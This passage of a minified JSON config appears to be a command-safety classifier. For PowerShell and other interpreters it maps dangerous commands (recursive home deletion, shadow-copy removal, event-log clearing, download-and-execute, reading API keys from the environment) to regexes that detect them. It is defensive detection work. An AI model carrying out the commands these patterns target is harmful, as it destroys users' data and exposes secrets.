+g":[],"code":["e"],"dialect":"named","operands":"code"},"go":{"short":"","long":[],"dialect":"named"},"rustc":{"short":"","long":[],"dialect":"named"},"rust-scr\
+ipt":{"short":"","long":[],"dialect":"named"},"swiftc":{"short":"","long":[],"dialect":"named"},"zig":{"short":"","long":[],"dialect":"named"},"v":{"short":"","\
+long":[],"dialect":"named"},"kotlinc":{"short":"","long":[],"dialect":"named"},"groovy":{"short":"e","long":[],"code":["e"],"dialect":"typed"},"java":{"short":"\
+","long":[],"dialect":"typed"},"jshell":{"short":"","long":[],"dialect":"typed"},"gcc":{"short":"","long":[],"dialect":"typed"},"cc":{"short":"","long":[],"dial\
+ect":"typed"},"tcc":{"short":"","long":[],"dialect":"typed"},"g++":{"short":"","long":[],"dialect":"typed"},"c++":{"short":"","long":[],"dialect":"typed"},"clan\
+g":{"short":"","long":[],"dialect":"typed"},"clang++":{"short":"","long":[],"dialect":"typed"},"csc":{"short":"","long":[],"dialect":"typed"},"dart":{"short":""\
+,"long":[],"dialect":"typed"},"dotnet":{"short":"","long":[],"dialect":"typed","operands":"code"},"dotnet-script":{"short":"","long":[],"dialect":"typed","opera\
+nds":"code"},"pwsh":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000\
+}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|\
+#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}\
+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\
+\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?<\
+![\\"'])\\\\b(?:Remove-Item|ri|rm|rd|rmdir|del)\\\\b(?=[^;\\\\n|]{0,200}\\\\s-[rR])(?![^;\\\\n|#]{0,200}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TMP\
+\\\\b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin delete shadows":["\\\\bWin32_ShadowCopy\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200}\
+\\\\.Delete\\\\()"],"wevtutil cl System":["\\\\bEventLogSession\\\\b[^;\\\\n]{0,200}\\\\.ClearLog\\\\("],"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove\
+-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$e\
+nv:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\
+\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/D\
+ocuments":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|ol\
+d|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\
+\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-It\
+em)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|Ope\
+nRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixm\
+l)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,2\
+00})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\
+\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\
+\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|S\
+tart-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\\
+s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}\
+]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]\
+{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?\
+![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\
+\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|\
+dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-W\
+hatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]\
+*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\\
+$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|\
+rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildI\
+tem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object\
+|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|\
+ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n\
+]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"\
+'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gclo\
+ud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|pris\
+ma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?<![/\\\\\\\\.\\\\w])(?:Clear|Forma\
+t|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbox|DistributionGroup|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|Pn\
+P\\\\w+|Team|DnsServer\\\\w+|DhcpServer\\\\w+|GPO|ClusterResource|VMSnapshot|VirtualDisk|StoragePool)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCred\
+ential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Servi\
+ce|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\
+\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|Downl\
+oadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\
+\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell":{"short":"\
+c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^\
+|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40}\
+)(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]\
+){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2",\
+"(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?<![\\"'])\\\\b(?:Remove-Item|ri|rm\
+|rd|rmdir|del)\\\\b(?=[^;\\\\n|]{0,200}\\\\s-[rR])(?![^;\\\\n|#]{0,200}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TMP\\\\b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin\
+ delete shadows":["\\\\bWin32_ShadowCopy\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200}\\\\.Delete\\\\()"],"wevtutil cl S\
+ystem":["\\\\bEventLogSession\\\\b[^;\\\\n]{0,200}\\\\.ClearLog\\\\("],"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\
+\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\
+\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?\
+:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildIte\
+m|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|d\
+mp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-It\
+em|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Ta\
+il|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)\
+([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\
+\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content\
+|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\
+\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\
+\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkil\
+l -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where\
+-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|sp\
+ps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:\
+Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![\
+:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\
+\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+(\
+[\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-\
+]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\
+\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(\
+?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\\
+n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+\
+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.\
+|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-Chil\
+dItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include\
+)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del\
+)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|\
+terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|dis\
+kpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?<![/\\\\\\\\.\\\\w])(?:Clear|Format|Initialize|Remove)-(?:Disk|V\
+olume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbox|DistributionGroup|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|PnP\\\\w+|Team|DnsServer\\\\w+|DhcpS\
+erver\\\\w+|GPO|ClusterResource|VMSnapshot|VirtualDisk|StoragePool)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventL\
+og|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"\
+],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebReques\
+t|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(\
+?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:G\
+et-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell.exe":{"short":"c","long":["Command","comm\
+and","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get\
+-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|\
+Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[re\
+f\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\b\
+Tokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|rd|rmdir|del)\\\\b(?=[^;\\\\n\
+|]{0,200}\\\\s-[rR])(?![^;\\\\n|#]{0,200}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TMP\\\\b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin delete shadows":["\\\\bWin3\
+2_ShadowCopy\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200}\\\\.Delete\\\\()"],"wevtutil cl System":["\\\\bEventLogSessio\
+n\\\\b[^;\\\\n]{0,200}\\\\.ClearLog\\\\("],"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-Wh\
